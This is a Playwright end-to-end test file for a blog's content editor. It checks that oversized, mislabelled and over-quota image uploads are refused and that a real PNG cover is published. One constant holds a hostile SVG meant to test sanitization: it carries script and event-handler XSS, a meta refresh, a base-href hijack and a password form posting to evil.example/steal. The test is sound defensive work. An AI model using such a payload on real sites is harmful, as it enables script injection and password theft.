/**
 * Images in the content editor, the way the owner adds them: Blog posts → New → Image: Choose an image → upload →
 * Choose selected → Save, then publish, over the self-hosted stack as `npm start` runs it (the static server serving
 * the `live` symlink and forwarding /api/ to the lead service, whose editor commits to a throwaway Git working copy
 * of the site). What the editor refuses it says when the image is chosen or saved; what goes live is the image itself,
 * and an SVG's markup only as the sanitizer lets it through.
 */
import { execFileSync } from 'node:child_process'
import { randomBytes } from 'node:crypto'
import { mkdirSync, readFileSync, statSync, writeFileSync } from 'node:fs'
import { join, resolve } from 'node:path'
import { Resvg } from '@resvg/resvg-js'
import { expect, type Page } from '@playwright/test'
import { test } from '../support/test'
import { makeSiteCopy } from '../support/siteCopy'
import { startEditorStack, type EditorStack } from '../support/editorStack'

const sitePort = Number(process.env.E2E_PORT ?? 4174) + 44
const servicePort = Number(process.env.E2E_PORT ?? 4174) + 45
const site = `http://localhost:${sitePort}`
const ADMIN = { username: 'owner', password: 'a long editor test password 24' }
const loginPath = `/admin/login/${process.env.ADMIN_LOGIN_SLUG || 'control-room'}`
const PUBLISH_WITHIN = 8 * 60_000
const MB = 1024 * 1024
const PNG_SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a])

/** A real landscape cover, drawn to PNG. */
const COVER = new Resvg(
  '<svg xmlns="http://www.w3.org/2000/svg" width="1200" height="630"><rect width="1200" height="630" fill="#dbeafe"/><circle cx="600" cy="315" r="200" fill="#f97316"/></svg>',
).render()
const POST = { title: 'Kirana Stores on WhatsApp: A First Catalogue', slug: 'kirana-stores-on-whatsapp-a-first-catalogue', image: 'kirana-cover.png' }
const SVG_POST = { title: 'Festive Season Ads: Planning From September', slug: 'festive-season-ads-planning-from-september', image: 'festive-cover.svg' }
/** The attack's SVG: a landscape drawing with a script inside, and after its </svg> a meta refresh, a password form, a base and an onerror image. */
const HOSTILE_SVG = [
  '<svg xmlns="http://www.w3.org/2000/svg" width="1200" height="630" viewBox="0 0 1200 630"><title>Diwali lamps</title>',
  '<rect width="1200" height="630" fill="#fef3c7" onload="document.title=\'svg-onload-ran\'"/><script>document.title = "svg-script-ran"</script></svg>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/landing">',
  '<form action="https://evil.example/steal" method="post"><input type="password" name="stolen-password"><button>Sign in</button></form>',
  '<base href="https://evil.example/">',
  '<img src="/missing.png" onerror="document.title=\'svg-onerror-ran\'">',
].join('')
const HOSTILE_MARKERS = ['evil.example', 'svg-script-ran', 'svg-onload-ran', 'svg-onerror-ran', 'stolen-password', 'http-equiv="refresh"', '<base']

test.describe.configure({ mode: 'serial', timeout: PUBLISH_WITHIN + 120_000 })
test.use({ baseURL: site })

let copy: string
let stack: EditorStack

test.beforeAll(async () => {
  test.setTimeout(300_000)
  const initialBuild = resolve('dist-service/client')
  statSync(join(initialBuild, 'index.html'))
  copy = makeSiteCopy('content-media-site-')
  // The owner's earlier uploads: ten team photos of 4.9 MB, 49 MB of the media library's 50 MB (in People's folder: the
  // editor loads a folder's every file when it opens its library, so the blog's library stays quick to open).
  mkdirSync(join(copy, 'public/images/people'), { recursive: true })
  for (let photo = 1; photo <= 10; photo++)
    writeFileSync(
      join(copy, `public/images/people/team-archive-${photo}.png`),
      Buffer.concat([PNG_SIGNATURE, randomBytes(4.9 * MB - PNG_SIGNATURE.length)]),
    )
  execFileSync('git', ['-c', 'core.compression=0', 'add', '--all'], { cwd: copy })
  execFileSync('git', ['-c', 'user.name=Owner', '-c', 'user.email=owner@localhost', 'commit', '--quiet', '--no-gpg-sign', '-m', 'Upload team photos'], {
    cwd: copy,
  })
  stack = await startEditorStack({ copy, initialBuild, sitePort, servicePort, admin: ADMIN, tmpPrefix: 'content-media-stack-' })
})

test.afterAll(async () => stack?.stop())

async function openEditor(page: Page) {
  await page.goto(loginPath)
  await page.getByLabel('Username').fill(ADMIN.username)
  await page.getByLabel('Password').fill(ADMIN.password)
  await page.getByRole('button', { name: 'Login' }).click()
  await page.waitForURL('**/admin/dashboard')
  await page.getByRole('tab', { name: 'Content' }).click()
  await page.getByRole('link', { name: 'Open the content editor' }).click()
  // Decap is 5 MB of script: on a busy machine it takes its time.
  await expect(page.getByRole('link', { name: 'Blog posts' })).toBeVisible({ timeout: 90_000 })
}

/** Blog posts → New, every field but the image filled in as the owner types them. */
async function newPost(page: Page, title: string) {
  await page.getByRole('link', { name: 'Blog posts' }).click()
  await page.getByRole('link', { name: 'Create entry of type Blog post' }).click()
  await page.getByLabel('Title', { exact: true }).fill(title)
  await page
    .getByLabel('Excerpt (also the search engine description)')
    .fill('How a neighbourhood business can plan its first steps in an afternoon and turn repeat questions into orders.')
  await page.getByLabel('Author', { exact: true }).fill('Priya Sharma, SEO Lead')
  await page.getByLabel('Date', { exact: true }).fill('2026-11-21')
  // The blog's categories come from its settings file, loaded as the owner types: pick the one offered.
  await page.getByLabel('Category', { exact: true }).fill('Social Media')
  await page.getByRole('option', { name: 'Social Media', exact: true }).click()
  await page.getByLabel('Related service page').fill('/services/social-media')
  await page.keyboard.press('Enter')
  await page.locator('[data-slate-editor]').click()
  await page.keyboard.type('A store that lists its staples answers fewer price questions and takes more orders every week.')
}

/** Image: Choose an image → Upload a file; returns once the library lists it (or the editor said no). */
async function upload(page: Page, file: { name: string; mimeType: string; buffer: Buffer }) {
  await page.getByRole('button', { name: /Choose (?:an|different) image/ }).click()
  await page.locator('input[type="file"]').setInputFiles(file)
}

/** Choose selected, once the library lists the upload: Decap selects a file it has just uploaded (a click on it would unselect it). */
async function chooseSelected(page: Page, name: string) {
  await expect(page.getByText(name, { exact: true })).toBeVisible()
  await page.getByRole('button', { name: 'Choose selected' }).click()
}

async function save(page: Page) {
  await page.getByRole('button', { name: 'Save', exact: true }).click()
  await page.getByRole('menuitem', { name: 'Save now' }).click()
}

async function publishAndWait(page: Page) {
  const status = page.locator('[data-publish-state]')
  await page.getByRole('button', { name: /Publish (?:changes )?to the live site/ }).click()
  await expect(status).toHaveAttribute('data-publish-state', /queued|building/)
  await expect(status).toHaveAttribute('data-publish-state', /^(?:live|failed)$/, { timeout: PUBLISH_WITHIN })
  expect(await status.getAttribute('data-publish-state'), (await status.textContent()) ?? '').toBe('live')
}

test('the owner adds a cover image through the editor: refused with a reason when it is too large, not an image or past the library, saved and live when it is right', async ({
  page,
}) => {
  const violations: string[] = []
  page.on('console', (message) => {
    if (/Content Security Policy|Refused to/i.test(message.text())) violations.push(message.text())
  })
  await openEditor(page)
  await newPost(page, POST.title)

  // A 6 MB photo is refused as it is chosen, saying the limit and what to do.
  // Decap says so in an alert while the file is being chosen: answered by a listener, or the choosing never returns.
  const alerts: string[] = []
  page.once('dialog', (dialog) => {
    alerts.push(dialog.message())
    void dialog.accept()
  })
  await upload(page, { name: 'wedding-shoot.png', mimeType: 'image/png', buffer: Buffer.concat([PNG_SIGNATURE, randomBytes(6 * MB)]) })
  await expect.poll(() => alerts).toEqual([expect.stringContaining('larger than 5 MB, the most the site takes for one image')])
  await expect(page.getByText('wedding-shoot.png')).toHaveCount(0)

  // A text file named .png is refused when saved, naming the file and what it is.
  await page
    .locator('input[type="file"]')
    .setInputFiles({ name: 'notes.png', mimeType: 'image/png', buffer: Buffer.from('Call the printer on Monday.\n') })
  await chooseSelected(page, 'notes.png')
  await save(page)
  await expect(page.getByText('notes.png is not a PNG image inside')).toBeVisible({ timeout: 15_000 })

  // A real 2 MB photo does not fit in the library's 50 MB with the owner's earlier 49 MB: refused, with what to do.
  await upload(page, { name: 'team-photo.png', mimeType: 'image/png', buffer: Buffer.concat([PNG_SIGNATURE, randomBytes(2 * MB)]) })
  await chooseSelected(page, 'team-photo.png')
  await save(page)
  await expect(page.getByText('The media library holds at most 50 MB of images together; it has 49 MB')).toBeVisible({ timeout: 15_000 })

  // The real cover: its thumbnail shows, the save commits it, and it is the image's bytes.
  const cover = Buffer.from(COVER.asPng())
  await upload(page, { name: POST.image, mimeType: 'image/png', buffer: cover })
  await chooseSelected(page, POST.image)
  const thumbnail = page.locator('img[src^="blob:"]').first()
  await expect(thumbnail).toBeVisible()
  expect(await thumbnail.evaluate((image: HTMLImageElement) => image.naturalWidth)).toBe(1200)
  await save(page)
  await expect(page.getByRole('alert').filter({ hasText: 'Entry saved' })).toBeVisible({ timeout: 15_000 })
  expect(readFileSync(join(copy, 'public/images/blog', POST.image)).equals(cover)).toBe(true)
  expect(readFileSync(join(copy, 'content/blog', `${POST.slug}.md`), 'utf8')).toContain(`image: /images/blog/${POST.image}`)
  // Only the cover went into the repository: neither refused upload did.
  const tracked = execFileSync('git', ['ls-files', 'public/images'], { cwd: copy, encoding: 'utf8' })
  expect(tracked).not.toContain('notes.png')
  expect(tracked).not.toContain('team-photo.png')

  // A post whose cover is the attack's SVG: saved (it is an SVG), and its preview carries none of the attack.
  await page.goto('/api/admin/content/editor#/collections/blog')
  await newPost(page, SVG_POST.title)
  await upload(page, { name: SVG_POST.image, mimeType: 'image/svg+xml', buffer: Buffer.from(HOSTILE_SVG) })
  await chooseSelected(page, SVG_POST.image)
  const preview = await page.frameLocator('iframe').locator('body').innerHTML()
  for (const marker of HOSTILE_MARKERS) expect(preview, marker).not.toContain(marker)
  await save(page)
  await expect(page.getByRole('alert').filter({ hasText: 'Entry saved' })).toBeVisible({ timeout: 15_000 })

  await publishAndWait(page)

  // The PNG cover live on its post, as the file the owner chose.
  await page.goto(`/blog/${POST.slug}`)
  const live = page.locator(`main img[src="/images/blog/${POST.image}"]`).first()
  await expect(live).toBeVisible()
  expect(await live.evaluate((image: HTMLImageElement) => image.naturalWidth)).toBe(1200)
  expect(Buffer.from(await (await page.request.get(`/images/blog/${POST.image}`)).body()).equals(cover)).toBe(true)

  // The SVG post is live without any of the attack: nothing of it in the page, no redirect, nothing ran.
  const html = await (await page.request.get(`/blog/${SVG_POST.slug}`)).text()
  expect(html).toContain(SVG_POST.title)
  for (const marker of HOSTILE_MARKERS) expect(html, marker).not.toContain(marker)
  await page.goto(`/blog/${SVG_POST.slug}`)
  await page.waitForTimeout(1500)
  expect(new URL(page.url()).pathname).toBe(`/blog/${SVG_POST.slug}`)
  expect(await page.title()).not.toMatch(/svg-.*-ran/)

  expect(violations).toEqual([])
})
